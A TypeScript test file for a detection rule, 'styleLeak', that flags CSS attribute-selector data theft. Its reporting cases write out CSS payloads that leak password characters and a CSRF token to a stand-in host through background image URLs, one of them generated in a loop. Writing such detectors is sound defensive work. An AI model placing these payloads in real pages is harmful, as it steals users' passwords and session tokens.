import { describeRule } from '../testing/describe-rule.ts';
import { styleLeak } from './style-leak.ts';

describeRule(styleLeak, {
  reports: {
    'a rule for a letter of a password':
      'const css = `input[type=password][value^="a"] { background: url(https://collect.example/a) }`;',
    'rules made in a loop':
      'const css = letters.map((l) => `input[value$="${l}"]{background-image:url(${host}/${l})}`).join("");',
    'a token read out of a field': `const css = 'input[name=csrf][value^="x"] { background: url(//collect.example/x) }';`,
  },
  leaves: {
    'a picture of the own site': `const css = 'input[type=search] { background: url(/glass.svg) }';`,
    'links marked by where they lead': `const css = 'a[target=_blank] { background: url(/out.svg) }';`,
    'a value that only gets a colour': `const css = 'option[value^="a"] { color: red }';`,
  },
});
